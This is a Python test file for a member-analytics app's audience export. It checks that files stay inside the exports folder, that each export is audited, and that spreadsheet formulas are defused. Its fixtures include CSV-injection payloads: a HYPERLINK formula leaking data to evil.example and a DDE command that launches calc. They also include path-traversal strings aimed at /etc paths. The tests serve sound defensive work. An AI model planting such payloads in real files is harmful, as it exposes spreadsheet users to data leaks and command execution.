"""Audience exports: files only directly inside <workspace>/exports, audited with a reason and a sha256, every
cell defused for spreadsheets; through the app's callback/Services, the CLI and the live app over HTTP."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import sqlite3
from pathlib import Path

import httpx
import pytest
from typer.testing import CliRunner

from memberinsight.csvsafe import FORMULA_START, PHONE_NUMBER
from memberinsight.errors import AuthError, DataValidationError
from memberinsight.governance import EXPORT_COLUMNS, export_path
from memberinsight.governance.export import export_slug, inside_folder
from memberinsight.segments import SegmentDefinition
from memberinsight.ui import callbacks as cb

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","open")'
DDE = "+cmd|' /C calc'!A0"
MEMBERS = [  # member_id, email, phone, first_name, last_name, city, country
    ("M1", "ann@example.com", DDE, HYPERLINK, "Lee", "London", "UK"),
    ("M2", "bob@example.com", "+44 20 7946 0000", "Bob", "-2+3", "@SUM(1+1)", "UK"),
    ("M3", "cid@example.com", None, "\tCid", "Ng", "Paris", "=1+1"),
    ("M4", "dan@example.com", "-1-1", "Dan", "Ray", "../../..", "IE"),
]
PREDICTIONS = [("M1", "At Risk"), ("M2", "At Risk"), ("M3", "Champions"), ("M4", "Champions")]
# the audit's attack: a JSON definition whose value walks out of the workspace
ESCAPE = json.dumps({"where": {"field": "city", "op": "not in", "value": ['../../../../x"]}}']}})
ADMIN, PASSWORD = "ana", "correct-horse-battery"
CAP_ENV = "MEMBERINSIGHT_CONTACT_FREQUENCY_CAP"
DIRECT_ENV = "MEMBERINSIGHT_CAMPAIGNS_DIRECT_EXPORT"
NAME = re.compile(r"^(?P<stem>[a-z0-9_-]+)_(?P<channel>email|sms)_\d{8}T\d{6}Z(-\d+)?\.csv$")


@pytest.fixture(scope="module", autouse=True)
def frequent_direct_exports():
    """These tests export the same four members a dozen times within a minute to check where files go, so the
    contact frequency cap (3 in 7 days by default; tested in tests/governance) is raised for this module, and
    they export a segment directly (no campaign), so ``[campaigns] direct_export`` is on (off by default:
    tests/governance/test_direct_export_gate.py); the exporting account is an admin."""
    previous = {name: os.environ.get(name) for name in (CAP_ENV, DIRECT_ENV)}
    os.environ[CAP_ENV], os.environ[DIRECT_ENV] = "100", "true"
    yield
    for name, value in previous.items():
        if value is None:
            os.environ.pop(name, None)
        else:
            os.environ[name] = value


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("export_safety")


@pytest.fixture(scope="module")
def ws(root: Path):
    from memberinsight.workspace import Workspace
    from memberinsight.workspace.users import add_user

    ws = Workspace.create(root / "a" / "b" / "c" / "workspace")  # `../` runs stay inside root: we can see them
    with ws.analytics() as con:
        con.executemany("INSERT INTO members (member_id, email, phone, first_name, last_name, city, country, "
                        "email_consent, sms_consent) VALUES (?, ?, ?, ?, ?, ?, ?, true, true)", MEMBERS)
        con.execute("CREATE TABLE member_predictions (member_id VARCHAR, rfm_segment VARCHAR)")
        con.executemany("INSERT INTO member_predictions VALUES (?, ?)", PREDICTIONS)
    add_user(ws, ADMIN, PASSWORD, role="admin")  # a direct export needs an admin
    return ws


@pytest.fixture(scope="module")
def services(ws):
    from memberinsight.agent.services import Services
    from memberinsight.config import load_settings

    return Services(ws, load_settings(workspace=ws.path))


def _files(root: Path) -> set[Path]:
    """Every file and folder under ``root`` except the databases' own side files."""
    return {p for p in root.rglob("*") if not re.search(r"\.(sqlite|duckdb)(-\w+|\.wal)?$", p.name)}


def _read(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _last_audit(ws) -> tuple[str, str, str, dict]:
    with sqlite3.connect(ws.path / "operations.sqlite") as con:
        actor, action, object_id, detail = con.execute(
            "SELECT actor, action, object_id, detail FROM audit_log WHERE action = 'audience.export' "
            "ORDER BY id DESC LIMIT 1").fetchone()
    return actor, action, object_id, json.loads(detail)


def _export_count(ws) -> int:
    with sqlite3.connect(ws.path / "operations.sqlite") as con:
        return con.execute("SELECT count(*) FROM audit_log WHERE action = 'audience.export'").fetchone()[0]


def _assert_defused(rows: list[list[str]]) -> None:
    phone = EXPORT_COLUMNS.index("phone")
    for row in rows:
        for i, cell in enumerate(row):
            assert not cell.startswith(FORMULA_START) or (i == phone and PHONE_NUMBER.fullmatch(cell)), row


def test_json_definition_with_dotdot_exports_one_file_directly_under_exports(ws, services, root: Path) -> None:
    before = _files(root)
    message, download = cb.export_audience(services, ADMIN, ESCAPE, "email", "  spring   win-back ")
    assert message.startswith("Exported **4** of 4 members of a custom definition"), message
    path = Path(download)
    exports = (ws.path / "exports").resolve()
    assert path.parent == exports and NAME.match(path.name)["stem"] == "custom_segment"
    assert _files(root) - before - {exports} == {path}  # nothing elsewhere, no folder named after the JSON
    assert [p for p in exports.iterdir() if p.is_dir()] == []
    assert not [p for p in root.rglob("*") if '"]}}' in p.name or p.name.startswith("x")]

    rows = _read(path)
    assert tuple(rows[0]) == EXPORT_COLUMNS and len(rows) == 5
    actor, action, object_id, detail = _last_audit(ws)
    assert (actor, action, object_id) == (ADMIN, "audience.export", ESCAPE)
    assert detail["segment"] == ESCAPE and detail["reason"] == "spring win-back" and detail["channel"] == "email"
    assert detail["bypassed_approval"] is True and detail["campaign_id"] is None  # a direct export, said so
    assert detail["definition"] == SegmentDefinition.from_json(ESCAPE).to_json()
    assert json.loads(detail["definition"])["where"]["value"] == ['../../../../x"]}}']
    assert detail["rows"] == len(rows) - 1 == 4 and detail["columns"] == rows[0]
    assert detail["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest() and detail["file"] == str(path)


def test_a_named_segment_becomes_a_slug_with_channel_and_timestamp(ws, services) -> None:
    first = services.export_audience(ADMIN, "At Risk", "sms", "sms reminder")
    second = services.export_audience(ADMIN, "At Risk", "sms", "sms reminder")
    assert NAME.match(first.path.name)["stem"] == "at_risk" and NAME.match(first.path.name)["channel"] == "sms"
    assert second.path != first.path and second.path.parent == first.path.parent  # never overwritten
    assert (first.written, first.without_contact) == (2, 0)
    _, _, object_id, detail = _last_audit(ws)
    assert object_id == "At Risk" and json.loads(detail["definition"])["where"]["value"] == "At Risk"
    assert detail["sha256"] == second.sha256 == hashlib.sha256(second.path.read_bytes()).hexdigest()


def test_file_names_never_carry_a_path(ws) -> None:
    assert export_slug("At Risk") == "at_risk" and export_slug("Ünïcôde Früh-ling") == "unicode_fruh-ling"
    assert export_slug("../../etc/passwd") == "etc_passwd" and export_slug("-rf --x") == "rf_--x"
    for empty in ("", "..", "../..", "🙂", "  ", "\\\\"):
        assert export_slug(empty) == "segment"
    assert len(export_slug("a" * 500)) == 40
    exports = (ws.path / "exports").resolve()
    for hostile in ("../../x", "a/b/c", "..", "C:\\evil", "x\x00y", "/etc/cron.d/job", "{\"where\": 1}", "~root"):
        path = export_path(ws, hostile, "email")
        assert path.parent == exports and NAME.match(path.name), (hostile, path)
    with pytest.raises(DataValidationError, match="exports go directly inside"):
        inside_folder(exports / ".." / "x.csv", exports)
    with pytest.raises(DataValidationError, match="exports go directly inside"):
        inside_folder(exports / "sub" / "x.csv", exports)
    with pytest.raises(DataValidationError, match="channel"):
        export_path(ws, "At Risk", "../email")


def test_a_reason_is_required(ws, services, root: Path) -> None:
    before, count = _files(root), _export_count(ws)
    for reason in ("", "   "):
        message, download = cb.export_audience(services, ADMIN, "At Risk", "email", reason)
        assert message.startswith("⚠️ Give a reason") and download is None
        with pytest.raises(DataValidationError, match="give a reason"):
            services.export_audience(ADMIN, "At Risk", "email", reason)
    with pytest.raises(DataValidationError, match="under 500"):
        services.export_audience(ADMIN, "At Risk", "email", "x" * 501)
    with pytest.raises(AuthError):
        services.export_audience("", "At Risk", "email", "fine")
    assert _files(root) == before and _export_count(ws) == count  # nothing written, nothing audited


def test_every_dangerous_cell_is_defused_phones_stay_dialable(ws, services) -> None:
    report = services.export_audience(ADMIN, ESCAPE, "email", "check")
    rows = _read(report.path)
    _assert_defused(rows[1:])
    by_id = {r[EXPORT_COLUMNS.index("member_id")]: dict(zip(EXPORT_COLUMNS, r, strict=True)) for r in rows[1:]}
    assert by_id["M1"]["phone"] == "'" + DDE and by_id["M1"]["first_name"] == "'" + HYPERLINK
    assert by_id["M2"]["phone"] == "+44 20 7946 0000"  # a strict international number: kept for SMS tools
    assert by_id["M2"]["last_name"] == "'-2+3" and by_id["M2"]["city"] == "'@SUM(1+1)"
    assert by_id["M3"]["first_name"] == "'\tCid" and by_id["M3"]["country"] == "'=1+1"
    assert by_id["M4"]["phone"] == "'-1-1"


def test_cli_default_name_goes_to_exports_and_needs_a_reason(ws, tmp_path: Path) -> None:
    from memberinsight.cli import app

    runner = CliRunner()
    res = runner.invoke(app, ["export-audience", "--segment", "At Risk", "-w", str(ws.path)])
    assert res.exit_code != 0 and "--reason" in res.output
    res = runner.invoke(app, ["export-audience", "--segment", "../../At Risk", "--reason", "x", "-w", str(ws.path)])
    assert res.exit_code != 0  # not a segment: refused before anything is written
    res = runner.invoke(app, ["export-audience", "--segment", "At Risk", "--reason", "quarterly sms",
                              "--channel", "sms", "--json", "-w", str(ws.path)])
    assert res.exit_code == 0, res.output
    data = json.loads(res.output)
    path = Path(data["path"])
    assert path.parent == (ws.path / "exports").resolve() and NAME.match(path.name)["stem"] == "at_risk"
    assert data["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest() and data["written"] == 2
    actor, _, _, detail = _last_audit(ws)
    assert actor.endswith("(cli)") and detail["reason"] == "quarterly sms" and detail["file"] == str(path)

    out = tmp_path / "mine" / ".." / "chosen.csv"  # an explicit --out: allowed, resolved and reported
    res = runner.invoke(app, ["export-audience", "--segment", "At Risk", "--out", str(out), "--reason", "ad hoc",
                              "-w", str(ws.path)])
    assert res.exit_code == 0, res.output
    resolved = (tmp_path / "chosen.csv").resolve()
    assert f"to {resolved} " in res.output and resolved.is_file()
    assert _last_audit(ws)[3]["file"] == str(resolved)


def test_export_over_http_writes_only_inside_exports(ws, services, root: Path) -> None:
    import socket

    from memberinsight.ui import launch

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    app = launch(ws, services.settings.replace(server_port=port), block=False, services=services, quiet=True)
    try:
        with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=60) as client:
            assert client.post("/login", data={"username": ADMIN, "password": PASSWORD}).status_code == 200

            def export(segment: str, reason: str) -> list:
                event = client.post("/gradio_api/call/export", json={"data": [segment, "email", reason]})
                assert event.status_code == 200, event.text
                stream = client.get(f"/gradio_api/call/export/{event.json()['event_id']}").text
                return json.loads(stream.split("event: complete\ndata: ", 1)[1].splitlines()[0])

            before, count = _files(root), _export_count(ws)
            message, download = export(ESCAPE, "")
            assert message.startswith("⚠️ Give a reason") and download is None
            assert _files(root) == before and _export_count(ws) == count
            message, download = export(ESCAPE, "campaign over http")
            assert message.startswith("Exported **4**"), message
            (new,) = _files(root) - before
            assert new.parent == (ws.path / "exports").resolve() and download["orig_name"] == new.name
            assert NAME.match(new.name)["stem"] == "custom_segment"
            assert _last_audit(ws)[3]["reason"] == "campaign over http"
            _assert_defused(_read(new)[1:])
    finally:
        app.close()
